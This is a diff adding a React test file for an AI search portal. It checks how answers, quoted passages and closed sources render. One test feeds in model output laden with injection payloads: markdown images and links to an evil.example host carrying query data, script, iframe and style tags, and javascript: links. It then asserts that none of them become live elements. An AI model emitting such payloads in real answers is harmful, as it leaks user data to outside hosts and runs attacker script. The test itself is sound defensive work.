@@ -1,0 +1,87 @@
+import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
+import { Missing, type Run } from '@portal/contracts';
+import { act, screen, waitFor, within } from '@testing-library/react';
+import { makeCitation, makeConversation, makeRun, makeTurn } from '../../../../jest/chat';
+import { tellFact } from '../../../../jest/facts';
+import { refuse } from '../../../../jest/gateway';
+import { openGatewayFor, person } from '../../../../jest/people';
+import { openAt } from '../../../../jest/portal';
+import { session } from '../../../live/session';
+
+const SESSION = '7b3f1c9e-0a51-4a67-9a55-0e3f4b2d9a01';
+const media = window.matchMedia;
+beforeEach(() => {
+  window.matchMedia = (query) => Object.assign(media(query), { matches: query.includes('min-width') });
+});
+afterEach(() => {
+  window.matchMedia = media;
+});
+
+const gateway = openGatewayFor(person());
+const openAnswers = async (...runs: Partial<Run>[]) => {
+  const turns = runs.map((run, at) =>
+    makeTurn(`t${at}`, { parentRun: at ? `r${at - 1}` : null, runs: [makeRun(`r${at}`, { turnId: `t${at}`, ...run })] }),
+  );
+  gateway.on('aisearch', 'conversations', () => ({ items: [], totalCount: 0 }));
+  gateway.on('aisearch', 'conversation', () => makeConversation(turns, { sessionId: SESSION }));
+  const view = await openAt(`/search/${SESSION}`);
+  return { ...view, answers: await screen.findAllByRole('region', { name: 'Answer' }) };
+};
+
+describe('the words of an answer', () => {
+  it('R3.10 of a model that no source supports say so, also in one line, and are not taken for passages', async () => {
+    const { answers } = await openAnswers({ writer: 'model', found: 'closest', text: 'About a month, I think.', citations: [] });
+    expect(answers[0]).toHaveTextContent('No document you can read supports this');
+    expect(screen.queryByRole('heading', { name: 'Nearest passages' })).toBeNull();
+  });
+
+  it('R3.10 of passages stand to the letter, whatever marks they begin with', async () => {
+    const text = '3. Close the valve **slowly**. [1]\n> 55 °C is the `limit`. [2]';
+    const { answers } = await openAnswers({ writer: 'quotes', found: 'closest', text, citations: [makeCitation(1), makeCitation(2)] });
+    expect(answers[0]).toHaveTextContent('3. Close the valve **slowly**. 1');
+    expect(answers[0]).toHaveTextContent('> 55 °C is the `limit`. 2');
+    expect(screen.getByRole('heading', { name: 'Nearest passages' })).toBeInTheDocument();
+    expect(screen.queryByText(/No document you can read supports this/)).toBeNull();
+  });
+
+  it('R3.10 T15 of a model load nothing and lead nowhere: pictures, links and markup are words', async () => {
+    const text = [
+      '![secret](https://evil.example/p.png?q=price) [open](https://evil.example/?d=1) <https://evil.example/auto> https://evil.example/bare',
+      '<img src="https://evil.example/i.png"><iframe src="https://evil.example"></iframe><script src="https://evil.example/s.js"></script>',
+      '[there]: https://evil.example/ref "title"\n[ref][there] ![ref][there]',
+      '<style>@import "https://evil.example/s.css"</style><a href="javascript:alert(1)">x</a> [y](javascript:alert(1)) [1]',
+    ].join('\n\n');
+    const { answers, container } = await openAnswers({ writer: 'model', text });
+    await waitFor(() => expect(answers[0]!.querySelector('[data-source], button')).not.toBeNull());
+    await waitFor(() => expect(answers[0]).toHaveTextContent('secret open'));
+    const foreign = [...container.querySelectorAll('*')].filter((element) =>
+      [...element.attributes].some(({ name, value }) => name !== 'title' && /evil\.example|javascript:/.test(value)),
+    );
+    expect(foreign).toEqual([]);
+    expect(answers[0]!.querySelectorAll('img, iframe, script, style, object, embed, link, a')).toHaveLength(0);
+  });
+});
+
+it('R3.10 a passage that is open goes from the screen as soon as its source is closed to its reader', async () => {
+  gateway.on('aisearch', 'passage', () => ({
+    citation: makeCitation(1, { page: null }),
+    heading: 'Limits',
+    body: 'Ambient temperature up to 51 °C in the open.',
+    rowFrom: null,
+    rowTo: null,
+    cells: null,
+    language: 'en' as const,
+  }));
+  const { person: hand } = await openAnswers({});
+  const sources = within(await screen.findByRole('region', { name: 'Sources' }));
+  await hand.click(sources.getByRole('button', { name: 'Source 1: Data sheet 1, page 2', expanded: false }));
+  expect(await screen.findByText('Ambient temperature up to 51 °C in the open.')).toBeInTheDocument();
+  const closed = makeCitation(1, { document: null, page: null, quote: null, state: 'closed' });
+  const turn = makeTurn('t0', { runs: [makeRun('r0', { closed: true, citations: [closed] })] });
+  gateway.on('aisearch', 'conversation', () => makeConversation([turn], { sessionId: SESSION }));
+  gateway.on('aisearch', 'passage', () => refuse(Missing));
+  await act(async () => tellFact('chat.source-changed', { sessionId: SESSION, runId: 'r0', n: 1, state: 'closed' }));
+  await waitFor(() => expect(screen.queryByText('Ambient temperature up to 51 °C in the open.')).toBeNull());
+  expect(screen.queryByText('Data sheet 1')).toBeNull();
+  await act(async () => session.signOut());
+});
